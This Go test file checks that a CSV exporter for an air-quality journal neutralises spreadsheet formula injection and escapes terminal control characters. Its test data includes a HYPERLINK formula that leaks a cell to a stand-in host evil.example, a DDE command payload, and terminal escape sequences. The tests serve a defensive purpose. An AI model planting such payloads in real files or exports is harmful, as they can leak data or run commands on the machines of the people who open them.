package export_test

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/ventd/ventd/export"
	"github.com/ventd/ventd/journal"
)

// Text a person typed (a note, a name, a site) reaches the auditor's
// spreadsheet as text, never as a formula; numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	j := newJournal(t)
	at := dayShift.Start.Add(time.Hour).UTC()
	write(t, j, journal.Batch{
		Meta: map[string]string{"site": `Hope, =HYPERLINK("http://evil.example/?"&A1, "click")`, "room": "+Room 1",
			"sensor.x.serial": "@SUM(1+1)"},
		Minutes: []journal.Minute{{Start: at, Zone: "staff", Quantity: "co2", Mean: 420, Max: 430, Count: 60, CoveredSeconds: 60}},
		Gaps: []journal.Gap{{Start: at.Add(time.Minute), End: at.Add(2 * time.Minute), Zone: "staff", Quantity: "co2",
			Reason: "\t=1+1", Backwards: 0}},
		Events: []journal.Event{{ID: 1, AlarmID: 1, Rule: "-rule", Kind: "raised", Level: "alarm", Subject: "staff", Quantity: "co2",
			Time: at, Value: -5, Threshold: -1, Message: "=cmd|' /C calc'!A0"}},
		Acks:         []journal.Ack{{AlarmID: 1, Time: at, Who: `=HYPERLINK("http://evil.example")`, Note: "\rhello"}},
		Calibrations: []journal.Calibration{{Time: at, Sensor: "s", Serial: "-12", Kind: "frc", Reference: 420, Correction: -12, Who: "+1", Note: "ok"}},
	})
	out := string(run(t, j, export.Options{Format: "csv", Location: vancouver, Now: dayShift.End}))
	p := parseCSV(t, []byte(out))

	cells := map[string]string{
		"events/message": p.sections["events"][0]["message"], "events/rule": p.sections["events"][0]["rule"],
		"acks/who": p.sections["acks"][0]["who"], "acks/note": p.sections["acks"][0]["note"],
		"gaps/reason":          p.sections["gaps"][0]["reason"],
		"calibrations/serial":  p.sections["calibrations"][0]["serial"],
		"calibrations/who":     p.sections["calibrations"][0]["who"],
		"calibrations/note":    p.sections["calibrations"][0]["note"],
		"events/value":         p.sections["events"][0]["value"],
		"calibrations/correct": p.sections["calibrations"][0]["correction"],
	}
	want := map[string]string{
		"events/message": "'=cmd|' /C calc'!A0", "events/rule": "'-rule",
		"acks/who": `'=HYPERLINK("http://evil.example")`, "acks/note": `\rhello`, // shown, not acted on (TestCSVShowsHiddenCharacters)
		"gaps/reason": "'\t=1+1", "calibrations/serial": "'-12", "calibrations/who": "'+1", "calibrations/note": "ok",
		"events/value": "-5.000", "calibrations/correct": "-12.000", // numbers keep their sign
	}
	for k, w := range want {
		if cells[k] != w {
			t.Errorf("%s = %q, want %q", k, cells[k], w)
		}
	}

	// Comment lines are split at commas too when opened in a spreadsheet.
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "# ") {
			continue
		}
		r := csv.NewReader(strings.NewReader(line))
		r.LazyQuotes, r.FieldsPerRecord = true, -1
		rec, err := r.Read()
		if err != nil {
			continue
		}
		for _, c := range rec[1:] {
			if c = strings.TrimLeft(c, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("comment %q has a formula cell %q", line, c)
			}
		}
	}
	if got := p.comment("site"); len(got) != 1 || got[0] != `Hope, '=HYPERLINK("http://evil.example/?"&A1, "click")` {
		t.Errorf("site comment %q", got)
	}
	if got := p.comment("room"); len(got) != 1 || got[0] != "+Room 1" {
		t.Errorf("room comment %q: the first cell starts with '#', no quote needed", got)
	}
}

// Rows journaled before names and notes were refused with hidden
// characters may hold a terminal's escapes, a C1 control, a
// bidirectional override, a zero-width space or bytes that are not UTF-8.
// Printed from the CSV (cat, less -R) the escapes acted on the auditor's
// terminal (a title change, a cleared screen, text recoloured to vanish)
// and the override reversed how the rest of the line read. Each is shown
// as its escape, so the cell says what was typed; line breaks and tabs
// stay.
func TestCSVShowsHiddenCharacters(t *testing.T) {
	j := newJournal(t)
	at := dayShift.Start.Add(time.Hour).UTC()
	write(t, j, journal.Batch{
		Minutes: []journal.Minute{{Start: at, Zone: "staff", Quantity: "co2", Mean: 420, Max: 430, Count: 60, CoveredSeconds: 60}},
		Events: []journal.Event{{ID: 1, AlarmID: 1, Rule: "r", Kind: "raised", Level: "alarm", Subject: "staff", Quantity: "co2",
			Time: at, Value: 5, Threshold: 1, Message: "ok"}},
		Acks: []journal.Ack{{AlarmID: 1, Time: at, Who: "Sam\u202e1evom", Note: "seen\x1b]0;owned\x07\x1b[2J\u009b31m\u200bend\xff\nline two\tcol"}},
	})
	out := run(t, j, export.Options{Format: "csv", Location: vancouver, Now: dayShift.End})
	for _, bad := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\u200b", "\xff"} {
		if strings.Contains(string(out), bad) {
			t.Errorf("the CSV holds %q as it is", bad)
		}
	}
	p := parseCSV(t, out)
	if got, want := p.sections["acks"][0]["who"], `Sam\u202e1evom`; got != want {
		t.Errorf("acks/who = %q, want %q", got, want)
	}
	if got, want := p.sections["acks"][0]["note"], `seen\x1b]0;owned\a\x1b[2J\u009b31m\u200bend\xff`+"\nline two\tcol"; got != want {
		t.Errorf("acks/note = %q, want %q", got, want)
	}
}
